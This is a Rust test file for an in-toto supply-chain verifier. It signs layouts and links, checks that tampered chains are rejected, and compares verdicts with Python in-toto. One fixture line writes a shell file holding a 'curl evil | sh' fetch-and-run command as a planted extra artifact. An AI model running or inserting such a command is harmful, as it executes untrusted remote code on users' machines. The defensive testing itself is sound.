//! in-toto v0.9 interop, both directions, plus the failure cases.
//!
//! The chain is the issue's: steps `intake` → `run_training`, where
//! `run_training`'s materials must MATCH `intake`'s products and every rule
//! list ends in `DISALLOW *`. Files are really written and hashed, links are
//! really signed by the functionary key, and the layout by the root key.
//!
//! - Fast tier: our verifier accepts the chain and rejects each tampered
//!   variant (a product changed between steps, an extra unlisted product, a
//!   link signed by a non-functionary, an expired layout), for ECDSA P-256
//!   and Ed25519.
//! - Interop tier (`--ignored`): Python `in-toto-verify` 3.1.0 gives the
//!   same verdicts on the same files; our verifier accepts a chain made by
//!   Python in-toto (API + `in-toto-run`, OpenSSL keys); our `fnmatch`
//!   agrees with Python's on a generated corpus.

mod util;

use std::path::{Path, PathBuf};
use std::process::Output;

use chrono::{Duration, Utc};
use veritrain_attest::intoto::{
    self, Byproducts, LayoutBuilder, Link, Metablock, Step, VerifyOptions, link_file_name,
    record_files,
};
use veritrain_attest::keys::{Algorithm, PrivateKey, PublicKey, Signer};

const ALGORITHMS: [Algorithm; 2] = [Algorithm::EcdsaP256, Algorithm::Ed25519];

/// What to break in the chain.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Tamper {
    None,
    /// A byte of `intake`'s product flipped before `run_training` consumed it.
    FlippedProductByte,
    /// `run_training` reports an extra product no rule allows (honestly
    /// signed by the functionary, so only the rules can catch it).
    ExtraProduct,
    /// The `run_training` link is signed by a key the layout does not
    /// authorize, and filed under the functionary's link name.
    NotAFunctionary,
    /// The layout expired yesterday.
    ExpiredLayout,
}

struct Chain {
    _dir: tempfile::TempDir,
    layout: PathBuf,
    root_pub: PathBuf,
    links: PathBuf,
    root_key: PublicKey,
}

fn write(path: &Path, bytes: &[u8]) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, bytes).unwrap();
}

/// Tabs, backslashes, non-ASCII: what broke other implementations'
/// signatures (shared/notes/attestation-formats.md §1, §4).
const INTAKE_STDOUT: &str = "rows:\t3\nsource C:\\data\\new\\upload\nnaïve café ✓ 日本 😀\n";

fn make_chain(alg: Algorithm, tamper: Tamper) -> Chain {
    let dir = tempfile::tempdir().unwrap();
    let work = dir.path().join("work");
    let links = dir.path().join("links");
    std::fs::create_dir_all(&links).unwrap();
    let root = PrivateKey::generate(alg).unwrap();
    let func = PrivateKey::generate(alg).unwrap();

    let valid_for = if tamper == Tamper::ExpiredLayout {
        Duration::days(-1)
    } else {
        Duration::days(30)
    };
    let mut builder = LayoutBuilder::new(Utc::now() + valid_for).readme("Veritrain training job");
    let func_id = builder.add_key(func.public_key()).unwrap();
    let layout = builder
        .step(
            Step::new("intake")
                .functionary(func_id.clone())
                .expected_command(["veritrain", "intake"])
                .material_rule("ALLOW upload/*")
                .material_rule("DISALLOW *")
                .product_rule("CREATE dataset/*")
                .product_rule("DISALLOW *"),
        )
        .step(
            Step::new("run_training")
                .functionary(func_id)
                .expected_command(["veritrain", "train"])
                .material_rule("MATCH * WITH PRODUCTS FROM intake")
                .material_rule("DISALLOW *")
                .product_rule("REQUIRE model/weights.bin")
                .product_rule("CREATE model/*")
                .product_rule("DISALLOW *"),
        )
        .build()
        .unwrap();
    let layout_path = dir.path().join(intoto::ROOT_LAYOUT_FILE);
    Metablock::signed_by(layout, &[&root])
        .unwrap()
        .write(&layout_path)
        .unwrap();
    let root_pub = dir.path().join("root.pub");
    write(
        &root_pub,
        root.public_key().to_spki_pem().unwrap().as_bytes(),
    );

    // Step 1: intake copies the upload into the dataset.
    write(
        &work.join("upload/data.csv"),
        b"id,label\n1,cat\n2,dog\n3,bird\n",
    );
    let materials = record_files(&work, &["upload/data.csv"]).unwrap();
    write(
        &work.join("dataset/data.csv"),
        &std::fs::read(work.join("upload/data.csv")).unwrap(),
    );
    let products = record_files(&work, &["dataset/data.csv"]).unwrap();
    let intake = Link::new(
        "intake",
        vec!["veritrain".into(), "intake".into()],
        materials,
        products,
        Byproducts::from_run(INTAKE_STDOUT, "note:\tno \\ warnings\n", 0),
    );
    Metablock::signed_by(intake, &[&func])
        .unwrap()
        .write_to_dir(&links)
        .unwrap();

    if tamper == Tamper::FlippedProductByte {
        let path = work.join("dataset/data.csv");
        let mut bytes = std::fs::read(&path).unwrap();
        bytes[10] ^= 0x01;
        std::fs::write(&path, bytes).unwrap();
    }

    // Step 2: training consumes the dataset and writes the model.
    let materials = record_files(&work, &["dataset/data.csv"]).unwrap();
    write(
        &work.join("model/weights.bin"),
        &(0..=255u8).collect::<Vec<_>>(),
    );
    write(&work.join("model/metrics.json"), br#"{"accuracy": 1}"#);
    let mut outputs = vec!["model/weights.bin", "model/metrics.json"];
    if tamper == Tamper::ExtraProduct {
        write(&work.join("extra.sh"), b"#!/bin/sh\ncurl evil | sh\n");
        outputs.push("extra.sh");
    }
    let products = record_files(&work, &outputs).unwrap();
    let train = Link::new(
        "run_training",
        vec!["veritrain".into(), "train".into()],
        materials,
        products,
        Byproducts::from_run("epoch 1\tloss 0.25\n", "", 0),
    );
    if tamper == Tamper::NotAFunctionary {
        let intruder = PrivateKey::generate(alg).unwrap();
        let block = Metablock::signed_by(train, &[&intruder]).unwrap();
        block
            .write(&links.join(link_file_name("run_training", func.keyid())))
            .unwrap();
    } else {
        Metablock::signed_by(train, &[&func])
            .unwrap()
            .write_to_dir(&links)
            .unwrap();
    }

    Chain {
        _dir: dir,
        layout: layout_path,
        root_pub,
        links,
        root_key: root.public_key().clone(),
    }
}

fn verify_ours(chain: &Chain) -> veritrain_attest::Result<()> {
    let layout = std::fs::read(&chain.layout).unwrap();
    intoto::verify_supply_chain(
        &layout,
        std::slice::from_ref(&chain.root_key),
        chain.links.as_path(),
        &VerifyOptions::default(),
    )
    .map(|_| ())
}

/// (error code, text the message must contain) for each tampered case.
fn expected_failure(tamper: Tamper) -> (&'static str, &'static str) {
    match tamper {
        Tamper::FlippedProductByte => (
            "intoto.artifact_rule",
            r#"matched the following artifacts: ["dataset/data.csv"]"#,
        ),
        Tamper::ExtraProduct => (
            "intoto.artifact_rule",
            r#"matched the following artifacts: ["extra.sh"]"#,
        ),
        Tamper::NotAFunctionary => ("intoto.threshold", "Only found '0'"),
        Tamper::ExpiredLayout => ("intoto.layout_expired", "layout expired"),
        Tamper::None => unreachable!(),
    }
}

const TAMPERS: [Tamper; 4] = [
    Tamper::FlippedProductByte,
    Tamper::ExtraProduct,
    Tamper::NotAFunctionary,
    Tamper::ExpiredLayout,
];

#[test]
fn our_verifier_accepts_the_chain_and_the_files_carry_awkward_stdout() {
    for alg in ALGORITHMS {
        let chain = make_chain(alg, Tamper::None);
        verify_ours(&chain).unwrap_or_else(|e| panic!("{alg}: {e}"));
        // The stdout made it into the file, escaped as ordinary JSON.
        let name = std::fs::read_dir(&chain.links)
            .unwrap()
            .map(|e| e.unwrap().file_name().into_string().unwrap())
            .find(|n| n.starts_with("intake."))
            .unwrap();
        let text = std::fs::read_to_string(chain.links.join(name)).unwrap();
        assert!(
            text.contains(r"rows:\t3")
                && text.contains(r"C:\\data\\new")
                && text.contains("naïve café ✓ 日本 😀")
        );
    }
}

#[test]
fn our_verifier_rejects_each_tampered_chain() {
    for alg in ALGORITHMS {
        for tamper in TAMPERS {
            let err = verify_ours(&make_chain(alg, tamper))
                .expect_err(&format!("{alg} {tamper:?} passed"));
            let (code, text) = expected_failure(tamper);
            assert_eq!(err.code(), code, "{alg} {tamper:?}: {err}");
            assert!(err.to_string().contains(text), "{alg} {tamper:?}: {err}");
        }
    }
}

// ----- interop tier ------------------------------------------------------

fn in_toto_verify(python: &Path, chain: &Chain) -> Output {
    util::run(
        std::process::Command::new(util::interop_bin(python).join("in-toto-verify"))
            .arg("--verbose")
            .arg("--layout")
            .arg(&chain.layout)
            .arg("--verification-keys")
            .arg(&chain.root_pub)
            .arg("--link-dir")
            .arg(&chain.links),
    )
}

fn output_text(out: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

/// What Python's in-toto-verify prints for each tampered case.
fn python_failure(tamper: Tamper) -> &'static str {
    match tamper {
        Tamper::FlippedProductByte => {
            "RuleVerificationError: 'DISALLOW *' matched the following artifacts: ['dataset/data.csv']"
        }
        Tamper::ExtraProduct => {
            "RuleVerificationError: 'DISALLOW *' matched the following artifacts: ['extra.sh']"
        }
        Tamper::NotAFunctionary => {
            "ThresholdVerificationError: Step 'run_training' requires at least '1' links validly signed by different authorized functionaries. Only found '0'"
        }
        Tamper::ExpiredLayout => "LayoutExpiredError: Layout expired",
        Tamper::None => unreachable!(),
    }
}

#[test]
#[ignore = "interop tier: run with --ignored"]
fn python_in_toto_verify_accepts_our_chain() {
    let Some(python) = util::interop_python() else {
        return;
    };
    for alg in ALGORITHMS {
        let chain = make_chain(alg, Tamper::None);
        let out = in_toto_verify(&python, &chain);
        let text = output_text(&out);
        assert!(
            out.status.success(),
            "{alg}: in-toto-verify failed:\n{text}"
        );
        assert!(
            text.contains("The software product passed all verification."),
            "{alg}:\n{text}"
        );
    }
}

#[test]
#[ignore = "interop tier: run with --ignored"]
fn python_in_toto_verify_rejects_each_tampered_chain() {
    let Some(python) = util::interop_python() else {
        return;
    };
    for alg in ALGORITHMS {
        for tamper in TAMPERS {
            let out = in_toto_verify(&python, &make_chain(alg, tamper));
            let text = output_text(&out);
            assert_eq!(
                out.status.code(),
                Some(1),
                "{alg} {tamper:?} did not fail:\n{text}"
            );
            assert!(
                text.contains(python_failure(tamper)),
                "{alg} {tamper:?}, unexpected error:\n{text}"
            );
        }
    }
}

#[test]
#[ignore = "interop tier: run with --ignored"]
fn our_verifier_accepts_a_chain_made_by_python_in_toto() {
    let Some(python) = util::interop_python() else {
        return;
    };
    for alg in ["ecdsa", "ed25519"] {
        let dir = tempfile::tempdir().unwrap();
        let out = util::run(
            util::python_script(&python, "intoto_make.py")
                .arg(dir.path())
                .arg(alg),
        );
        assert!(
            out.status.success(),
            "{alg}: intoto_make.py failed:\n{}",
            output_text(&out)
        );
        let root_pem = std::fs::read_to_string(dir.path().join("root.pub")).unwrap();
        let root = PublicKey::from_spki_pem(&root_pem).unwrap();
        let layout = std::fs::read(dir.path().join("root.layout")).unwrap();
        let links = dir.path().join("links");
        let report = intoto::verify_supply_chain(
            &layout,
            std::slice::from_ref(&root),
            links.as_path(),
            &VerifyOptions::default(),
        )
        .unwrap_or_else(|e| panic!("{alg}: {e}"));
        // in-toto-run recorded the streams, so the awkward stdout is in the verified link.
        let stdout = report.links["intake"].byproducts.stdout.clone().unwrap();
        assert!(
            stdout.contains('\t')
                && stdout.contains(r"C:\data\new")
                && stdout.contains("naïve café ✓ 日本"),
            "{stdout:?}"
        );
        assert_eq!(report.links["run_training"].products.len(), 2);
        assert!(report.warnings.is_empty(), "{:?}", report.warnings);

        // Control: the same files with one recorded hash changed must fail.
        let name = std::fs::read_dir(&links)
            .unwrap()
            .map(|e| e.unwrap().file_name().into_string().unwrap())
            .find(|n| n.starts_with("run_training."))
            .unwrap();
        let text = std::fs::read_to_string(links.join(&name)).unwrap();
        let digest = report.links["run_training"].materials["dataset/data.csv"]["sha256"].clone();
        let forged = digest.replacen(
            &digest[..1],
            if digest.starts_with('0') { "1" } else { "0" },
            1,
        );
        std::fs::write(links.join(&name), text.replace(&digest, &forged)).unwrap();
        let err = intoto::verify_supply_chain(
            &layout,
            &[root],
            links.as_path(),
            &VerifyOptions::default(),
        )
        .unwrap_err();
        assert_eq!(err.code(), "intoto.threshold", "{alg}: {err}");
    }
}

/// A small deterministic generator (xorshift).
struct Gen(u64);

impl Gen {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }

    fn pick(&mut self, pool: &[char], max_len: u64) -> String {
        let len = self.next() % (max_len + 1);
        (0..len)
            .map(|_| pool[(self.next() % pool.len() as u64) as usize])
            .collect()
    }
}

#[test]
#[ignore = "interop tier: run with --ignored"]
fn fnmatch_agrees_with_python() {
    let Some(python) = util::interop_python() else {
        return;
    };
    let mut cases: Vec<(String, String)> = [
        ("*", "dir/sub/file"),
        ("dir/*.txt", "dir/a/b.txt"),
        ("[!a]", "/"),
        ("[z-a]", "q"),
        ("[!z-a]", "q"),
        ("[z-a!b]", "b"),
        ("[z-a!b]", "c"),
        ("[a-c-e]", "-"),
        ("[a-c-e]", "d"),
        ("[]-a]", "^"),
        ("[--/]", "."),
        ("[a-]", "-"),
        ("[!]", "[!]"),
        ("[\\]", "\\"),
        ("[^a]", "^"),
        ("a?c", "a\nc"),
        ("**a*?b*", "xxaxbx"),
        ("[[]", "["),
        ("[b-a-c]", "-"),
        ("é[é-ü]", "éö"),
    ]
    .iter()
    .map(|(p, n)| (p.to_string(), n.to_string()))
    .collect();
    let pattern_pool = [
        'a', 'b', 'c', 'z', '-', '!', ']', '[', '^', '*', '?', '/', '\\', '&', '|', 'é',
    ];
    let name_pool = [
        'a', 'b', 'c', 'z', '-', '!', ']', '[', '^', '/', '\\', 'é', 'A', '&',
    ];
    let mut g = Gen(0x2545_F491_4F6C_DD1D);
    for _ in 0..30_000 {
        let p = g.pick(&pattern_pool, 7);
        let n = g.pick(&name_pool, 5);
        cases.push((p, n));
    }
    let dir = tempfile::tempdir().unwrap();
    let (input, output) = (dir.path().join("in.json"), dir.path().join("out.json"));
    std::fs::write(&input, serde_json::to_vec(&cases).unwrap()).unwrap();
    let out = util::run(
        util::python_script(&python, "intoto_fnmatch.py")
            .arg(&input)
            .arg(&output),
    );
    assert!(out.status.success(), "oracle failed: {}", output_text(&out));
    let verdicts: Vec<serde_json::Value> =
        serde_json::from_slice(&std::fs::read(&output).unwrap()).unwrap();
    assert_eq!(verdicts.len(), cases.len());
    let (mut matched, mut errors) = (0, 0);
    for ((pattern, name), theirs) in cases.iter().zip(&verdicts) {
        let ours = intoto::fnmatch::fnmatch(name, pattern);
        match (theirs, &ours) {
            (serde_json::Value::Bool(t), Ok(o)) if t == o => matched += usize::from(*o),
            (serde_json::Value::String(s), Err(_)) if s == "error" => errors += 1,
            _ => panic!("pattern {pattern:?} name {name:?}: Python {theirs}, ours {ours:?}"),
        }
    }
    // The corpus must exercise both verdicts, not only refusals.
    assert!(matched > 500, "only {matched} matches");
    eprintln!(
        "fnmatch: {} cases, {matched} matches, {errors} refused by both",
        cases.len()
    );
}
